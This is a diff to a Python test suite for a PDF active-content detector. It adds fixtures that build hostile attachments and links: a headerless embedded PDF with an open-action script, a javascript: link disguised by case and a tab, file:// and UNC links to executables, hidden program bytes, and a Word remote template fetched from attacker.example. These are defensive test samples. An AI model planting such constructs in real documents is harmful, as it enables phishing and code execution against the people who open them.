@@ -180,7 +180,7 @@ def _broken_embedded_files_tree(pdf) -> None:
 ACTIVE = {
     "XFA form with a script": (_xfa, ["XFA"]),
     "GoToE to an embedded PDF whose open action is JavaScript": (_goto_embedded_with_a_script, ["GoToE", "JavaScript"]),
-    "GoToR to a network share on opening": (_goto_remote_unc, ["GoToR"]),
+    "GoToR to a network share on opening": (_goto_remote_unc, ["GoToR", "external file"]),
     "URI open action (a tracking address)": (_uri_open_action, ["URI (automatic)"]),
     "URI behind /Next of a page-open action": (_uri_on_page_open, ["URI (automatic)"]),
     "JavaScript in an annotation": (_script_in_an_annotation, ["JavaScript"]),
@@ -200,7 +200,7 @@ ACTIVE = {
         _text_name_in_the_tree_program_name_to_save,
         ["embedded program"],
     ),
-    "remote media on page open": (_remote_media_on_page_open, ["Rendition"]),
+    "remote media on page open": (_remote_media_on_page_open, ["Rendition", "external file"]),
     "an embedded PDF whose header starts after byte 1024": (_pdf_header_after_1024_bytes, ["embedded PDF"]),
     "payload.exe. (a trailing dot Windows drops)": (_named("payload.exe."), ["embedded program"]),
     "a Word document with macros (.docm)": (_named("smlouva.docm"), ["embedded program"]),
@@ -258,3 +258,117 @@ def test_every_real_contract_of_the_bundled_data_is_accepted():
 )
 def test_attachment_names_are_judged_as_windows_saves_them(name, saved):
     assert windows_name(name) == saved
+
+
+def _attached(name: str, data: bytes):
+    def attach(pdf) -> None:
+        pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, data, filename=name)
+
+    return attach
+
+
+def _without_header(pdf) -> None:
+    """A PDF with an open-action script whose ``%PDF-`` line is cut off: MuPDF still opens it."""
+    inner = pikepdf.open(io.BytesIO(CONTRACT))
+    inner.Root.OpenAction = _javascript_action(inner)
+    out = io.BytesIO()
+    inner.save(out)
+    headless = out.getvalue().split(b"\n", 1)[1]
+    assert not headless.startswith(b"%PDF-") and b"%PDF-" not in headless
+    import pymupdf
+
+    assert pymupdf.open(stream=headless, filetype="pdf").page_count == 1  # a reader opens it
+    pdf.attachments["priloha.pdf"] = pikepdf.AttachedFileSpec(pdf, headless, filename="priloha.pdf")
+
+
+def _link_to(address: str):
+    return lambda pdf: _annotation(pdf, A=pikepdf.Dictionary(S=N.URI, URI=pikepdf.String(address)))
+
+
+def _string_file_spec(pdf) -> None:
+    _annotation(pdf, Subtype=N.FileAttachment, FS=pikepdf.String("\\\\server\\share\\smlouva.exe"))
+
+
+def _related_program(pdf) -> None:
+    spec = pikepdf.AttachedFileSpec(pdf, b"Dobry den.", filename="priloha.txt")
+    program = pdf.make_stream(b"MZ\x90\x00" + b"\x00" * 60)
+    spec.obj.RF = pikepdf.Dictionary(F=pikepdf.Array([pikepdf.String("setup.txt"), program]))
+    pdf.attachments["priloha.txt"] = spec
+
+
+def _zip(parts: dict[str, bytes]) -> bytes:
+    import zipfile
+
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as package:
+        for name, data in parts.items():
+            package.writestr(name, data)
+    return out.getvalue()
+
+
+_DOCX = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
+_REMOTE_TEMPLATE = (
+    b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
+)
+_HYPERLINK = (
+    b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    b'relationships/hyperlink" Target="https://www.hornilhota.cz/" TargetMode="External"/></Relationships>'
+)
+
+ACTIVE_BY_STRUCTURE = {
+    "a PDF attachment without its header, with an open-action script": (_without_header, ["embedded PDF"]),
+    "a javascript: link": (_link_to("javascript:app.alert(1)"), ["URI javascript:"]),
+    "a JavaScript link hidden by case and a tab": (_link_to("\tJaVaScRiPt:app.alert(1)"), ["URI javascript:"]),
+    "a file:// link": (_link_to("file:///C:/Windows/system32/calc.exe"), ["URI file:"]),
+    "a UNC path as a link": (_link_to("\\\\server\\share\\a.exe"), ["URI without http, https or mailto"]),
+    "a file attachment naming an outside file by a string": (_string_file_spec, ["external file"]),
+    "a program among a file's related files (/RF)": (_related_program, ["embedded program"]),
+    "a script after the first kilobyte of a text attachment": (
+        _attached("poznamka.txt", b"Dobry den.\n" * 200 + b"<script>alert(1)</script>"),
+        ["embedded program"],
+    ),
+    "a Word document with a remote template": (
+        _attached("smlouva.docx", _zip({**_DOCX, "word/_rels/settings.xml.rels": _REMOTE_TEMPLATE})),
+        ["embedded document with external links"],
+    ),
+    "a Word document with an OLE package": (
+        _attached("smlouva.docx", _zip({**_DOCX, "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
+        ["embedded object in a document"],
+    ),
+    "a workbook with an Excel 4 macro sheet": (
+        _attached("rozpocet.xlsx", _zip({"[Content_Types].xml": b"<Types/>", "xl/macrosheets/sheet1.xml": b"<x/>"})),
+        ["embedded document with macros"],
+    ),
+    "a program inside a signature container (ASiC-E)": (
+        _attached("podpis.asice", _zip({"mimetype": b"application/vnd.etsi.asic-e+zip", "smlouva.pdf.exe": b"x"})),
+        ["embedded program"],
+    ),
+    "a program's bytes inside a signature container": (
+        _attached("podpis.asice", _zip({"mimetype": b"application/vnd.etsi.asic-e+zip", "data.txt": b"MZ\x90\x00"})),
+        ["embedded program"],
+    ),
+}
+
+
+@pytest.mark.parametrize("case", ACTIVE_BY_STRUCTURE)
+def test_attachments_and_links_are_judged_by_their_structure(case):
+    change, kinds = ACTIVE_BY_STRUCTURE[case]
+    data = _edit(change)
+    assert find_active_content(data) == sorted(kinds)
+    with pytest.raises(ActiveContentError):
+        refuse_active_content(data)
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        _link_to("mailto:podatelna@hornilhota.cz"),
+        _link_to("HTTP://www.hornilhota.cz/"),
+        _attached("smlouva.docx", _zip({**_DOCX, "word/_rels/document.xml.rels": _HYPERLINK})),
+        _attached("vykaz.txt", b"Polozka;Cena\n" * 500),
+    ],
+    ids=["mailto link", "HTTP in capitals", "Word document with a web link", "long text"],
+)
+def test_links_to_the_web_and_documents_with_web_links_stay_accepted(change):
+    assert find_active_content(_edit(change)) == []
